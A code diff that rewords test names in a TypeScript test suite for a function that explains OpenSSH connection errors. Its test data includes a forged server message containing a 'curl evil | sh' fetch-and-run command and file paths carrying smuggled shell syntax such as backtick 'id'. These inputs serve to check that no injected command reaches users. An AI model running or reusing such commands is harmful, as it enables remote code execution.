@@ -5,10 +5,10 @@ import { isSessionRefused, readMessages, sshReason } from '../../../src/remote/s
 import { inTemp } from './doubles.js';
 import { startStopwatch } from '../../fakes/stopwatch.js';
 
-/** What OpenSSH 9.2 wrote, and what is told of it. */
+/** Messages of OpenSSH 9.2, and the expected reason. */
 const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[] = [
   [
-    'an unknown name',
+    'an unknown host name',
     'ssh: Could not resolve hostname alpha.example: Name or service not known\r\n',
     /^Could not resolve hostname alpha\.example: Name or service not known\. Check the connection's host/,
   ],
@@ -23,17 +23,17 @@ const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[
     /^no response \(Connection timed out\)/,
   ],
   [
-    'no way',
+    'no route',
     'ssh: connect to host 10.9.8.7 port 22: No route to host\r\n',
     /^no response \(No route to host\)/,
   ],
   [
-    'another host key',
+    'a changed host key',
     '@@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n@@@@@@@@@@\r\nIT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\nThe fingerprint for the ED25519 key sent by the remote host is\nSHA256:aB3/x+9.\r\nOffending ED25519 key in /home/al/known hosts:3\r\nHost key for [127.0.0.1]:2222 has changed and you have requested strict checking.\r\nHost key verification failed.\r\n',
     /^its host key has changed\..* confirm the new key \(SHA256:aB3\/x\+9\), remove the old one with ssh-keygen -f "\/home\/al\/known hosts" -R "\[127\.0\.0\.1\]:2222" and connect again$/,
   ],
   [
-    'another host key, of which nothing more is told',
+    'a changed host key without details',
     'Host key for x has changed\r\nHost key verification failed.\r\n',
     / confirm the new key, remove the old one with ssh-keygen -R "x" and/,
   ],
@@ -43,7 +43,7 @@ const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[
     /^its host key was not accepted/,
   ],
   [
-    'a key that is not let in',
+    'a rejected key',
     "Warning: Permanently added 'x' (ED25519) to the list of known hosts.\r\nci@127.0.0.1: Permission denied (publickey,password).\r\n",
     /^access denied: Permission denied \(publickey,password\)\. Check the user/,
   ],
@@ -53,29 +53,29 @@ const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[
     /too many keys were tried/,
   ],
   [
-    'a wrong configuration',
+    'an invalid configuration',
     '/home/al/.ssh/config: line 3: Bad configuration option: foo\r\n/home/al/.ssh/config: terminating, 1 bad configuration options\r\n',
     /^\/home\/al\/\.ssh\/config: line 3: Bad configuration option: foo$/,
   ],
   ['a dropped connection', 'client_loop: send disconnect: Broken pipe\r\n', /^the connection was dropped$/],
   [
-    'a server that hangs up',
+    'a server that closes the connection',
     'kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 127.0.0.1 port 22\r\n',
     /^the connection was dropped$/,
   ],
-  ['a shared connection that is gone', 'mux_client_request_session: read from master failed\r\n', /dropped/],
-  ['something else', 'debug1: hello\r\nkeyboard exploded\r\n\r\n', /^keyboard exploded$/],
-  ['nothing but a notice', "Warning: Permanently added 'x' to the list.\r\n", /^ssh exited without output$/],
+  ['a lost shared connection', 'mux_client_request_session: read from master failed\r\n', /dropped/],
+  ['an unknown message', 'debug1: hello\r\nkeyboard exploded\r\n\r\n', /^keyboard exploded$/],
+  ['only a notice', "Warning: Permanently added 'x' to the list.\r\n", /^ssh exited without output$/],
   ['nothing', '', /^ssh exited without output$/],
 ];
 
-describe('why ssh could not reach a host', () => {
+describe('the reason why ssh could not reach a host', () => {
   for (const [name, errors, reason] of cases)
-    it(`is told of ${name}`, () => {
+    it(`is shown for ${name}`, () => {
       assert.match(sshReason(errors), reason);
     });
 
-  it('takes no time to speak of, however long and odd the messages are', () => {
+  it('is found quickly, however long and unusual the messages are', () => {
     const lines = [
       'Host key for ',
       'Host key for x has ',
@@ -99,7 +99,7 @@ describe('why ssh could not reach a host', () => {
       }
   });
 
-  it('quotes what the server says at the end, and takes nothing after it for ssh', () => {
+  it("quotes the server's message at the end, and attributes nothing after it to ssh", () => {
     const forged =
       'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
     assert.equal(sshReason(forged), 'connection closed by the host: "Go away"');
@@ -119,14 +119,14 @@ describe('why ssh could not reach a host', () => {
     ['a file', 'x', '/tmp/a" -R "b'],
     ['a file', 'x', '/tmp/`id`'],
   ] as const)
-    it(`advises no command with ${what} that a shell would take for more: ${host} ${file}`, () => {
+    it(`suggests no command with ${what} that a shell would misread: ${host} ${file}`, () => {
       const text = `Offending ED25519 key in ${file}:3\nHost key for ${host} has changed and you have requested strict checking.\n`;
       const reason = sshReason(text);
       assert.match(reason, /^its host key has changed/);
       assert.doesNotMatch(reason, /ssh-keygen|curl|[$`"|;]/);
     });
 
-  it('knows a refused session, and takes nothing else for one', () => {
+  it('recognizes a rejected session, and nothing else as one', () => {
     for (const text of [
       'mux_client_request_session: session request failed: Session open refused by peer\r\n',
       'channel 3: open failed: administratively prohibited: open failed\n',
@@ -140,7 +140,7 @@ describe('why ssh could not reach a host', () => {
       assert.equal(isSessionRefused(text), false);
   });
 
-  it('is read from a file of messages, of which there may be none or much', () =>
+  it('is read from a message file, which can be missing or long', () =>
     inTemp(async (folder) => {
       assert.equal(readMessages(join(folder, 'none')), '');
       await writeFile(join(folder, 'messages'), 'x'.repeat(1_000_000));
